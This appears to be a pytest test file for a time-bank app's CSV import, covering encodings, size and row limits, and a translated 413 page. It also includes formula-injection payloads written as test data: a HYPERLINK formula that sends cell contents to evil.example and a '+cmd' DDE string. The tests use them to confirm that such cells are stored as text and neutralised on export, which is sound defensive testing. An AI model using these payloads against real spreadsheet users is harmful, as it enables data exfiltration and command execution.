"""Uploaded files that are odd, wrong or hostile: each is read correctly or refused with one
clear message on the page, and a refused file writes nothing.

Byte-order marks and any mix of line endings just work; Latin-1 and UTF-16 with a byte-order
mark are read as the letters typed, and UTF-16 without one is refused naming CSV UTF-8. A file
past the row limit (``reading.MAX_ROWS``) is refused as soon as reading passes it, and a body past
``MAX_CONTENT_LENGTH`` gets the app's own 413 page, in the reader's language. Cells a
spreadsheet would run as formulas are imported as the text they are, and exported neutralised.
"""

from __future__ import annotations

import csv
import io
import re
import time
from html.parser import HTMLParser

import flask_babel
import pytest
from babel.support import NullTranslations
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from tests.imports.files import MEMBER_HEADER, csv_text, member_row
from tests.web.test_imports import batch_id_of, members_in, start, upload
from timebank.imports import reading
from timebank.imports.csv_safety import BOM
from timebank.imports.models import ImportBatch
from timebank.ledger import Transfer, TransferKind
from timebank.members.models import Member

#: Names with the letters Latin-1 and Windows-1252 have and ASCII does not.
NAMES = ("Séamus Ó Briain", "Zoë Müller", "Áine Ní Bhriain")


class ErrorSummary(HTMLParser):
    """The messages of a page's error summary, one per item, as the reader sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.messages: list[str] = []
        self._depth = 0  # inside the summary: how many <div>s deep
        self._item: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "div" and (self._depth or "error-summary" in (dict(attrs).get("class") or "")):
            self._depth += 1
        elif tag == "li" and self._depth:
            self._item = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "div" and self._depth:
            self._depth -= 1
        elif tag == "li" and self._item is not None:
            self.messages.append(" ".join("".join(self._item).split()))
            self._item = None

    def handle_data(self, data: str) -> None:
        if self._item is not None:
            self._item.append(data)


def the_one_message(page: str) -> str:
    """The page's only error message; fails if it has none or several."""
    summary = ErrorSummary()
    summary.feed(page)
    assert len(summary.messages) == 1, summary.messages
    return summary.messages[0]


def batches(session: Session) -> int:
    found = session.scalar(select(func.count(ImportBatch.id)))
    session.rollback()
    return found


def refused(client: FlaskClient, bank_id: int, data: bytes, kind: str = "members") -> str:
    """Upload a file that must be refused on the upload page: its one message."""
    response = upload(client, bank_id, data, kind=kind)
    assert response.status_code == 200, response.status_code
    return the_one_message(response.text)


def imported_names(session: Session, bank_id: int) -> list[str]:
    names = list(
        session.scalars(
            select(Member.full_name).where(Member.bank_id == bank_id).order_by(Member.id)
        )
    )
    session.rollback()
    return names


def members_file(names: tuple[str, ...] = NAMES) -> str:
    return csv_text(MEMBER_HEADER, [member_row(n, full_name=name) for n, name in enumerate(names)])


def import_all(client: FlaskClient, bank_id: int, data: bytes) -> str:
    """Upload, check the preview offers every row, import them all: the result page."""
    batch_id = batch_id_of(upload(client, bank_id, data))
    preview = client.get(f"/broker/banks/{bank_id}/imports/{batch_id}").text
    assert "All of them are ready to import." in preview
    start(client, bank_id, batch_id, "all")
    return client.get(f"/broker/banks/{bank_id}/imports/{batch_id}").text


# -- encodings and line endings -------------------------------------------------------------------


@pytest.mark.parametrize(
    "line_ending", ["\r\n", "\n", "\r", "mixed"], ids=["crlf", "lf", "cr", "mixed"]
)
def test_a_byte_order_mark_and_any_line_endings_just_work(
    broker, session: Session, line_ending: str
) -> None:
    client, bank, _ = broker
    lines = members_file().splitlines()
    if line_ending == "mixed":  # pasted together from files of several machines
        endings = ["\r\n", "\n", "\r", "\n"]
        text = "".join(line + end for line, end in zip(lines, endings, strict=True))
    else:
        text = line_ending.join(lines) + line_ending
    result = import_all(client, bank.id, BOM.encode() + text.encode("utf-8"))
    assert "3 members were added." in result
    assert imported_names(session, bank.id) == list(NAMES)


@pytest.mark.parametrize(
    ("encoding", "data"),
    [
        ("latin-1", members_file().encode("latin-1")),
        ("windows-1252", members_file().encode("cp1252")),
        ("utf-16-le", b"\xff\xfe" + members_file().encode("utf-16-le")),
        ("utf-16-be", b"\xfe\xff" + members_file().encode("utf-16-be")),
        ("utf-16 with crlf", members_file().replace("\r\n", "\n").encode("utf-16")),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_latin_1_and_utf_16_with_a_byte_order_mark_are_read_as_typed(
    broker, session: Session, encoding: str, data: bytes
) -> None:
    client, bank, _ = broker
    assert "3 members were added." in import_all(client, bank.id, data)
    assert imported_names(session, bank.id) == list(NAMES)


def test_utf_16_without_a_byte_order_mark_is_refused_naming_the_encoding_to_use(
    broker, session: Session
) -> None:
    client, bank, _ = broker
    message = refused(client, bank.id, members_file().encode("utf-16-le"))
    assert "CSV UTF-8" in message
    assert batches(session) == 0 and members_in(session, bank.id) == 0


# -- size ----------------------------------------------------------------------------------------


def test_a_million_short_rows_are_refused_at_the_row_limit_quickly(
    broker, session: Session
) -> None:
    client, bank, _ = broker
    # 3 MB: under the upload limit, so only the row limit stands in the way
    data = b"full_name,consent_date\n" + b"x,\n" * 1_000_000
    assert len(data) < 5 * 1024 * 1024
    began = time.perf_counter()
    message = refused(client, bank.id, data)
    took = time.perf_counter() - began
    print(f"1,000,000 rows refused in {took:.2f}s")
    assert message == (
        "The file has more than 20,000 rows. Split it into files of 20,000 rows or fewer and "
        "import them one after another."
    )
    # checking every row would take minutes; reading stops at the limit
    assert took < 30, took
    assert batches(session) == 0 and members_in(session, bank.id) == 0


def test_the_row_limit_itself_is_allowed(broker, session: Session, monkeypatch) -> None:
    client, bank, _ = broker
    monkeypatch.setattr(reading, "MAX_ROWS", 3)
    assert "3 members were added." in import_all(client, bank.id, members_file().encode())
    blank_rows_do_not_count = members_file(("Ann Byrne", "Bea Byrne")) + ",,,\n" * 5
    batch_id_of(upload(client, bank.id, blank_rows_do_not_count.encode()))
    message = refused(client, bank.id, members_file((*NAMES, "Dan Four")).encode())
    assert "more than 3 rows" in message
    assert batches(session) == 2 and members_in(session, bank.id) == 3


@pytest.mark.parametrize(
    ("what", "data"),
    [
        # 21 MB: each row a member who could be imported
        ("a million real rows", b"full_name,consent_date\n" + b"Ann Byrne,2024-03-01\n" * 10**6),
        ("a single 20 MB line", b"full_name,consent_date," + b"x" * (20 * 1024 * 1024)),
    ],
    ids=["million-rows", "20-mb-line"],
)
def test_a_file_over_the_upload_limit_gets_the_413_page(
    broker, session: Session, what: str, data: bytes
) -> None:
    client, bank, _ = broker
    response = upload(client, bank.id, data)
    assert response.status_code == 413, what
    assert "<h1>That file is too big</h1>" in response.text
    assert "The largest file this site takes is 5 MB." in response.text
    assert batches(session) == 0 and members_in(session, bank.id) == 0


def test_a_line_too_long_for_a_cell_is_named_by_its_row(broker, session: Session) -> None:
    client, bank, _ = broker
    # under the upload limit, but one cell of 4 MB: more than any spreadsheet row holds
    long_cell = b"x" * (4 * 1024 * 1024)
    first = refused(client, bank.id, long_cell + b"\n")
    second = refused(client, bank.id, b"full_name,consent_date\n" + long_cell + b",2024-03-01\n")
    cell_message = "has a cell too long to import. Check that this is a CSV file"
    assert first.startswith("Row 1 ") and cell_message in first
    assert second.startswith("Row 2 ") and cell_message in second
    assert batches(session) == 0


def test_a_first_row_of_two_million_cells_is_refused_at_once(broker, session: Session) -> None:
    client, bank, _ = broker
    header = ",".join(f"c{n}" for n in range(2_000_000)).encode()  # about 17 MB: too big
    assert upload(client, bank.id, header).status_code == 413
    header = b"a," * 2_000_000 + b"full_name,consent_date\n"  # 4 MB: "a", two million times
    began = time.perf_counter()
    message = refused(client, bank.id, header + b"Ann Byrne,2024-03-01\n")
    # naming the repeated columns once compared each with every other: hours, not seconds
    assert time.perf_counter() - began < 30
    assert message.startswith("The first row has 2,000,002 cells")
    assert "at most 100 columns" in message
    assert batches(session) == 0


def test_a_repeated_column_is_named_once(broker, session: Session) -> None:
    client, bank, _ = broker
    header = "full_name,consent_date,area,area,area\n"
    message = refused(client, bank.id, (header + "Ann Byrne,2024-03-01,BT9,BT9,BT9\n").encode())
    assert message == "The column area appears twice."
    assert batches(session) == 0


# -- formulas -------------------------------------------------------------------------------------

#: Cells a spreadsheet would run, each as a member's name.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
)


def test_formula_cells_import_as_the_text_they_are_and_export_neutralised(
    broker, session: Session
) -> None:
    client, bank, _ = broker
    phone = "+44 28 9000 0001"
    rows = [member_row(n, full_name=name, phone=phone) for n, name in enumerate(FORMULAS)]
    data = csv_text(MEMBER_HEADER, rows).encode()
    assert f"{len(FORMULAS)} members were added." in import_all(client, bank.id, data)
    assert imported_names(session, bank.id) == list(FORMULAS)

    exported = client.get(f"/broker/banks/{bank.id}/export/members.csv")
    table = list(csv.DictReader(io.StringIO(exported.data.decode("utf-8").removeprefix(BOM))))
    assert [row["full_name"] for row in table] == ["'" + name for name in FORMULAS]
    assert {row["phone"] for row in table} == {"'" + phone}


def test_formula_cells_where_a_number_belongs_get_one_message_each(
    broker, session: Session, make_member
) -> None:
    client, bank, _ = broker
    for name in ("Joan Murphy", "Seamus Kelly"):
        make_member(bank, name)
    header = ("date", "provider", "receiver", "minutes", "skill", "note")
    rows = [
        ["2024-03-01", "1", "2", "=1+1", "shopping", '=HYPERLINK("http://evil.example")'],
        ["2024-03-01", "1", "2", "-1+1", "shopping", ""],
        ["2024-03-01", "@SUM(A1)", "2", "60", "shopping", ""],
        ["2024-03-01", "1", "+2", "60", "shopping", ""],
        ["2024-03-01", "1", "2", "60", "shopping", "+cmd"],
    ]
    data = csv_text(header, rows).encode()
    batch_id = batch_id_of(upload(client, bank.id, data, kind="exchanges"))
    page = client.get(f"/broker/banks/{bank.id}/imports/{batch_id}").text
    problems = re.findall(
        r'<td class="num">(\d+)</td>\s*<td><code>(\w+)</code></td>\s*<td>([^<]*)</td>\s*'
        r"<td>([^<]*)</td>",
        page,
    )
    assert [(row, column, value) for row, column, value, _ in problems] == [
        ("2", "minutes", "=1+1"),
        ("3", "minutes", "-1+1"),
        ("4", "provider", "@SUM(A1)"),
        ("5", "receiver", "+2"),
    ]
    assert {message for *_, message in problems} == {
        "Write the minutes as a whole number",
        "Write the member number, like 12",
    }
    # the good row, its note a formula, imports as the text it is
    start(client, bank.id, batch_id, "valid")
    notes = list(session.scalars(select(Transfer.id).where(Transfer.kind == TransferKind.EXCHANGE)))
    session.rollback()
    assert len(notes) == 1
    exported = client.get(f"/broker/banks/{bank.id}/export/exchanges.csv")
    table = list(csv.DictReader(io.StringIO(exported.data.decode("utf-8").removeprefix(BOM))))
    assert [row["note"] for row in table if row["kind"] == "exchange"] == ["'+cmd"]


# -- the 413 page in the reader's language --------------------------------------------------------

#: The new 413 message as a Polish translator might write it, until the catalogue has it.
POLISH_413 = (
    "Please send a smaller file. The largest file this site takes is %(size)s.",
    "Proszę wysłać mniejszy plik. Największy plik, jaki przyjmuje ta strona, to %(size)s.",
)


class WithPolish413(NullTranslations):
    """The app's own catalogue, with the new 413 message added as a translation would add it."""

    def __init__(self, catalogue: NullTranslations) -> None:
        super().__init__()
        self.add_fallback(catalogue)

    def gettext(self, message: str) -> str:
        return POLISH_413[1] if message == POLISH_413[0] else super().gettext(message)

    ugettext = gettext


def too_big_upload(client: FlaskClient, bank_id: int, **headers: str):
    return client.post(
        f"/broker/banks/{bank_id}/imports/new/members",
        data={"file": (io.BytesIO(b"x" * (5 * 1024 * 1024 + 1)), "big.csv")},
        content_type="multipart/form-data",
        headers=headers,
    )


@pytest.mark.parametrize("asked", ["accept-language", "session"])
def test_the_413_page_is_the_app_s_own_in_the_reader_s_language(
    app: Flask, broker, session: Session, monkeypatch, asked: str
) -> None:
    client, bank, _ = broker
    catalogue = flask_babel.Domain.get_translations
    monkeypatch.setattr(
        flask_babel.Domain, "get_translations", lambda self: WithPolish413(catalogue(self))
    )
    if asked == "session":
        with client.session_transaction() as stored:
            stored["lang"] = "pl"
        response = too_big_upload(client, bank.id)
    else:
        response = too_big_upload(client, bank.id, **{"Accept-Language": "pl,en;q=0.5"})
    assert response.status_code == 413
    page = response.text
    assert '<html lang="pl">' in page
    # the title from the Polish catalogue, the message through gettext with the size in Polish
    assert "<h1>Ten plik jest za duży</h1>" in page
    assert "Największy plik, jaki przyjmuje ta strona, to 5 MB." in page
    assert "Request Entity Too Large" not in page, "werkzeug's own page"
    assert batches(session) == 0


def test_the_413_page_says_the_limit_the_app_is_set_to(app: Flask, broker) -> None:
    client, bank, _ = broker
    app.config["MAX_CONTENT_LENGTH"] = 2 * 1024 * 1024 + 512 * 1024
    response = too_big_upload(client, bank.id, **{"Accept-Language": "en"})
    assert response.status_code == 413
    assert "The largest file this site takes is 2.5 MB." in response.text
